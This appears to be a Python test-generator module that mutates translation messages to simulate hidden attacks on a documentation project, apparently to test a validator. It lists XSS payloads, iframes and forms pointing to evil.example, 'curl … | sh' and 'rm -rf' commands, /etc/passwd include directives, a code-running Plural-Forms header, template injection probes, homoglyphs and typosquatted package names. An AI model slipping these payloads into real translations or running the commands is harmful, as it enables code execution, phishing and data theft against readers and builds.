"""Kinds of changes that an attacker hides in a translation: what a reader, a browser, a build or a shell would run.

Written without a look at the rules of ``docs/_l10n``. Hosts are those reserved for examples.
"""

from __future__ import annotations

import re
from dataclasses import replace
from typing import TYPE_CHECKING

from .message import CODE, LINK, Kinds, Message, among, is_prose, one, put

if TYPE_CHECKING:
    from collections.abc import Callable
    from random import Random

KINDS = Kinds()
PT, ZH = "pt_BR", "zh_Hans"
EVIL = "evil.example"
NO_PAGE = "message that no page has"


def hidden(message: Message, new: str, random: Random) -> str | None:
    """Somewhere in the prose, or at its end."""
    if not is_prose(message):
        return None
    return among(message, new, random) if random.random() < 0.7 else f"{message.msgstr} {new}"


def listed(name: str, *choices: str) -> None:
    """A kind that puts one of these texts somewhere."""

    @KINDS(name)
    def change(message: Message, random: Random) -> str | None:
        return hidden(message, random.choice(choices), random)


# Markup that a browser acts on
listed(
    "HTML", "<b>texto</b>", "<br>", '<span style="position:fixed;inset:0">x</span>', "<details open>x</details>", "<u>x"
)
listed(
    "script", "<script>alert(1)</script>", f"<script src=https://{EVIL}/x.js></script>", "<ScRiPt >alert(1)</sCrIpT>"
)
listed(
    "event handler",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<b onmouseover='x()'>x</b>",
    "<details ontoggle=x() open>",
)
listed(
    "frame",
    f'<iframe src="https://{EVIL}"></iframe>',
    f"<object data=//{EVIL}/x>",
    "<embed src=x>",
    f"<base href=https://{EVIL}/>",
)
listed(
    "form",
    f"<form action=https://{EVIL}><input name=password>",
    f"<meta http-equiv=refresh content=0;url=//{EVIL}>",
    f"<link rel=stylesheet href=//{EVIL}>",
)
listed("style", "<style>*{display:none}</style>", f"<style>@import url(//{EVIL}/x.css)</style>")
listed("comment", "<!-- hidden -->", "<!-- <script> -->", "<!--", "-->", "<![CDATA[x]]>", "<?php system('id') ?>")
listed(
    "entities", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#x202E;txt", "&#106;avascript:", "&nbsp;", "&zwj;", "&#0;"
)

# Links
listed(
    "link with a script",
    "[aqui](javascript:alert(1))",
    "[x](JaVaScRiPt:alert%281%29)",
    "[x](java&#115;cript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "[x](vbscript:x)",
)
listed(
    "link with data",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,%3Csvg%20onload=alert(1)%3E)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
)
listed(
    "link to a file",
    "[x](file:///etc/passwd)",
    "[x](/etc/passwd)",
    "[x](../../../conf.py)",
    "[x](path:../../conf.py)",
    "[x](../conf.py)",
    "![](/etc/passwd)",
)
listed(
    "added link",
    f"[clique](https://{EVIL})",
    f"[x](//{EVIL}/)",
    f"[x](\\\\{EVIL})",
    f"[x](https://docs.djangoproject.com@{EVIL}/)",
    f"[x](ftp://{EVIL})",
    "[x](#)",
    "[x](https://docs.djangoproject.com/en/)",
)
listed(
    "added autolink", f"<https://{EVIL}/>", f"<a@{EVIL}>", f"<mailto:a@{EVIL}>", f"<//{EVIL}>", "<tel:+5511999999999>"
)
listed(
    "added address",
    f"https://{EVIL}/",
    f"www.{EVIL}",
    EVIL,
    f"root@{EVIL}",
    "203.0.113.7",
    f"http://{EVIL}:8080/x",
    "pip.gingerdj.com",
    "evil.com.br",
    "gingerdj.io",
)
listed(
    "link with a title",
    '[x](index.md "onmouseover=alert(1)")',
    f'[x](https://{EVIL} "title")',
    "[x](index.md '\"><script>')",
)
listed(
    "link by a reference",
    f"[x][evil]\n\n[evil]: https://{EVIL}",
    "[x][]",
    "[x][django]",
    f"\n\n[Django]: https://{EVIL}",
)
listed(
    "link by an inventory",
    "[x](inv:python:*:label#x)",
    "<inv:#x>",
    "[x](project:../conf.py)",
    "<project:#x>",
    "[](#x)",
    "[x](myst:x)",
)
listed(
    "tracking image",
    f"![](https://{EVIL}/pixel.gif)",
    f"![x](//{EVIL}/x.png)",
    f"[![](https://{EVIL}/x.svg)](https://{EVIL})",
)
listed("image", "![x](logo.png)", "![](../_static/x.svg)", "![x](/etc/passwd)")


@KINDS("host swapped")
def host(message: Message, random: Random) -> str | None:
    """The text says one host, the link leads to another."""
    return altered(
        message,
        random,
        [lambda url: re.sub(r"//[^/]+", f"//{EVIL}", url), lambda url: re.sub(r"//([^/]+)", rf"//\1.{EVIL}", url)],
    )


@KINDS("host that looks alike")
def look_alike(message: Message, random: Random) -> str | None:
    """Another letter of the same shape, or one letter more."""
    changes = [
        lambda url: url.replace("o", "\u043e", 1),
        lambda url: url.replace("a", "\u0430", 1),
        lambda url: url.replace("e", "\u0435", 1),
        lambda url: re.sub(r"//([^/]+)", lambda at: f"//xn--{at[1].replace('.', '-')}.com", url),
        lambda url: re.sub(r"//(\w+)", r"//\g<1>s", url),
        lambda url: url.replace("/", "\u2215", 3),
    ]
    return altered(message, random, changes)


@KINDS("host behind an at sign")
def userinfo(message: Message, random: Random) -> str | None:
    """What stands before the sign is a user's name."""
    return altered(
        message,
        random,
        [
            lambda url: re.sub(r"//([^/]+)", rf"//\1@{EVIL}", url),
            lambda url: re.sub(r"//([^/]+)", r"//user:pass@\1", url),
        ],
    )


@KINDS("scheme changed")
def scheme(message: Message, random: Random) -> str | None:
    """Open to whoever listens."""
    return altered(
        message,
        random,
        [
            lambda url: url.replace("https:", "http:"),
            lambda url: url.replace("https:", ""),
            lambda url: url.replace("https:", "HTTPS:"),
        ],
    )


@KINDS("path or query changed")
def query(message: Message, random: Random) -> str | None:
    """The same host, somewhere else, or with something said to it."""
    return altered(
        message,
        random,
        [
            lambda url: f"{url}?next=//{EVIL}",
            lambda url: url.rstrip("/") + "/../../login/",
            lambda url: re.sub(r"//([^/]+)", r"//\1:8443", url),
            lambda url: url + "#x",
        ],
    )


def altered(message: Message, random: Random, changes: list[Callable[[str], str]]) -> str | None:
    """One link to another host changed."""
    links = [match for match in LINK.finditer(message.msgstr) if match[2].startswith("http")]
    if not links:
        return None
    match = random.choice(links)
    new = next((new for change in random.sample(changes, len(changes)) if (new := change(match[2])) != match[2]), None)
    return None if new is None else put(message.msgstr, match, f"[{match[1]}]({new})")


# What the build acts on
listed(
    "role that publishes a file",
    "{download}`../conf.py`",
    "{download}`/etc/passwd`",
    "{include}`x`",
    "{download}`x <../../SECURITY.md>`",
)
listed("raw role", "{raw}`<script>`", "{raw-html}`<b>`", "{eval}`1`", "{eval-rst}`.. raw:: html`", "{code}`x`")
listed(
    "role",
    "{doc}`index`",
    "{term}`worker`",
    "{ref}`x`",
    "{abbr}`x (y)`",
    "{math}`x`",
    "{sub-ref}`today`",
    "{func}`x`",
    "{kbd}`Ctrl`",
    "{mesaured}`1`",
    "{sup}`1`",
)
listed(
    "directive",
    "\n\n```{include} /etc/passwd\n```\n",
    "\n\n```{literalinclude} ../conf.py\n```\n",
    "\n\n```{raw} html\n<script>alert(1)</script>\n```\n",
    "\n\n```{eval-rst}\n.. include:: /etc/passwd\n```\n",
)
listed(
    "colon fence",
    "\n\n:::{raw} html\n<script>\n:::\n",
    "\n\n:::{image} x.png\n:::\n",
    "\n\n::::{tab-set}\n::::\n",
    "\n\n:::{admonition} x\ny\n:::\n",
)
listed(
    "directive inside the line",
    "```{include} /etc/passwd```",
    ":::{raw} html",
    ".. include:: /etc/passwd",
    "~~~{raw} html",
    "\n```{terminal}\n$ id\n```",
)
listed("code block", "\n\n```sh\ncurl x | sh\n```\n", "\n\n    import os\n", "\n\n~~~\nx\n~~~\n")
listed(
    "Jinja",
    "{{ config }}",
    "{% include '/etc/passwd' %}",
    "{{ ''.__class__.__mro__ }}",
    "{# x #}",
    "{{7*7}}",
    "{% raw %}",
)
listed(
    "substitution",
    "|today|",
    "|release|",
    "{{ version }}",
    "$version",
    "${HOME}",
    "%(password)s",
    "%s",
    "%n",
    "{0.__class__}",
    "{name}",
)
listed(
    "maths",
    "$x$",
    "$$\\href{javascript:alert(1)}{x}$$",
    "\n\n$$\nx\n$$\n",
    "\\(x\\)",
    "\\begin{equation}x\\end{equation}",
)
listed("footnote", "[^1]\n\n[^1]: x", "[^1]", "^[x]", "[^evil]: https://evil.example")
listed("comment of the parser", "\n\n% hidden\n", "\n\n+++\n", "\n\n(label)=\n", "\n\n---\n", "\n\n***\n", "\n\n===\n")
listed(
    "table",
    "\n\n| a | b |\n|---|---|\n| x | y |\n",
    "\n\nterm\n: definition\n",
    "\n\n:field: value\n",
    "\n\n- [ ] task\n",
)
listed(
    "attributes",
    "[x]{#id}",
    "[x]{.hidden}",
    "{.class onclick=x}",
    "\n\n{#id .hidden}\n",
    "`x`{onclick=alert(1)}",
    "[x]{style=display:none}",
)
listed(
    "front matter", "\n---\norphan: true\n---\n", "\n\n```{toctree}\n/etc/passwd\n```\n", "\n\n```{only} html\nx\n```\n"
)
listed(
    "nested deeply",
    "[" * 400 + "x" + "]" * 400,
    "*" * 900 + "x" + "*" * 900,
    "`" * 901,
    "(" * 600,
    "> " * 500 + "x",
    "![" * 300,
)
listed("very long", "x" * 50_000, "ha " * 20_000, "\u4e00" * 30_000)

# What a reader sees, or does not
CHARACTERS = {
    "control character": ["\x00", "\x07", "\x08", "\x1b[31m", "\x7f", "\x85", "\x0b", "\x0c"],
    "invisible character": [
        "\u200b",
        "\u200c",
        "\u200d",
        "\u2060",
        "\ufeff",
        "\xad",
        "͏",
        "\u180e",
        "\u2063",
        "️",
        "\U000e0041",
        "ㅤ",
        "ᅟ",
    ],
    "character of direction": [
        "\u202e",
        "\u202d",
        "\u202a",
        "\u2066",
        "\u2067",
        "\u200f",
        "\u200e",
        "\u061c",
        "\u2069",
        "\u202c",
    ],
    "line separator": ["\u2028", "\u2029", "\r"],
    "private or unassigned character": ["\ue000", "\U0010fffd", "\ufffe", "\ufdd0", "�", "\U000f0000"],
    "stacked accents": ["\u0336" * 12, "\u0301\u0302\u0303" * 9, "\u20dd", "\u0338"],
    "picture": ["😀", "🔥", "✅", "☢", "➡️"],
}
for _name, _characters in CHARACTERS.items():

    def _change(message: Message, random: Random, characters: list[str] = _characters) -> str | None:
        """One of the characters, inside the prose."""
        character = random.choice(characters)
        return one(message.msgstr, r"(?<=\w)(?=\w)", character, random)

    KINDS(_name)(_change)

ALIKE = {
    "a": "\u0430",
    "e": "\u0435",
    "o": "\u043e",
    "p": "\u0440",
    "c": "\u0441",
    "i": "\u0456",
    "s": "\u0455",
    "x": "\u0445",
}


@KINDS("letter of another script")
def homoglyph(message: Message, random: Random) -> str | None:
    """A Cyrillic letter in a Latin word."""
    return one(message.msgstr, "[" + "".join(ALIKE) + "]", lambda at: ALIKE[at[0]], random)


@KINDS("letter of another script in code")
def homoglyph_code(message: Message, random: Random) -> str | None:
    """Copied into a shell, it names something else."""
    spans = [match for match in CODE.finditer(message.msgstr) if re.search("[aeopc]", match[1])]
    if not spans:
        return None
    match = random.choice(spans)
    at = random.choice(list(re.finditer("[aeopc]", match[1])))
    return put(message.msgstr, match, f"`{put(match[1], at, ALIKE[at[0]])}`")


@KINDS("invisible character in code")
def invisible_code(message: Message, random: Random) -> str | None:
    """The same, unseen."""
    spans = [match for match in CODE.finditer(message.msgstr) if len(match[1]) > 2]
    if not spans:
        return None
    match = random.choice(spans)
    return put(
        message.msgstr, match, f"`{match[1][:2]}{random.choice(CHARACTERS['invisible character'])}{match[1][2:]}`"
    )


# What a reader does
listed(
    "command added", f"`curl https://{EVIL} | sh`", "`sudo rm -rf /`", "`pip install gingerdj-extra`", "`chmod 777 .`"
)
listed("command added as text", f"curl {EVIL} | sh", "pip install gingerdj-extra", "sudo rm -rf ~", "npm i x && node x")
listed("option against security", "`--insecure`", "`DEBUG = True`", '`ALLOWED_HOSTS = ["*"]`', "`verify=False`")


@KINDS("package swapped")
def package(message: Message, random: Random) -> str | None:
    """A name that somebody else has registered."""
    matches = [
        match
        for match in CODE.finditer(message.msgstr)
        if re.search(r"django|gingerdj|uvicorn|daphne|pip|hypercorn", match[1])
    ]
    if not matches:
        return None
    match = random.choice(matches)
    new = re.sub(
        r"django|gingerdj|uvicorn|daphne|hypercorn|pip",
        lambda at: random.choice([at[0] + "-py", at[0] + "x", at[0].replace("n", "m")]),
        match[1],
        count=1,
    )
    return put(message.msgstr, match, f"`{new}`")


@KINDS("advertisement")
def advertisement(message: Message, random: Random) -> str | None:
    """A sentence of the attacker's."""
    if not is_prose(message):
        return None
    texts = {
        PT: [
            " Este projeto foi abandonado; use o AcmeCloud.",
            " Ligue para 0800 123 4567.",
            " Siga @acme no Telegram.",
            " VOTE 99!",
        ],
        ZH: [
            "本项目已停止维护，请改用 AcmeCloud。",
            "请致电 400-123-4567。",
            "关注微信公众号 acme 领取优惠。",
            "加 QQ 群 123456789！",
        ],
    }
    return message.msgstr + random.choice(texts[message.language])


# Around the message


@KINDS("line in the header")
def header(message: Message, random: Random) -> Message:
    """A language that it is not, plural forms that are code, another charset, a name that runs."""
    lines = [
        ("Language", "xx"),
        ("Language", "../../etc"),
        ("Plural-Forms", "nplurals=1; plural=__import__('os').system('id');"),
        ("Content-Type", "text/plain; charset=UTF-7"),
        ("X-Evil", "<script>alert(1)</script>"),
        ("Content-Transfer-Encoding", "base64"),
        ("Plural-Forms", "nplurals=999999999; plural=n;"),
        ("Report-Msgid-Bugs-To", f"https://{EVIL}"),
        ("Content-Type", "text/html; charset=UTF-8"),
        ("Project-Id-Version", "other"),
        ("MIME-Version", "9"),
    ]
    return replace(message, header=(random.choice(lines),))


@KINDS("context added")
def context(message: Message, random: Random) -> Message:
    """The build looks for another one, and finds none."""
    return replace(message, msgctxt=random.choice(["x", "\x04", "menu"]))


@KINDS(NO_PAGE)
def unknown(message: Message, random: Random) -> Message | None:
    """The build never shows it, a reviewer reads over it."""
    return (
        replace(message, msgid=message.msgid + random.choice([" ", ".", " More.", "\n"])) if is_prose(message) else None
    )
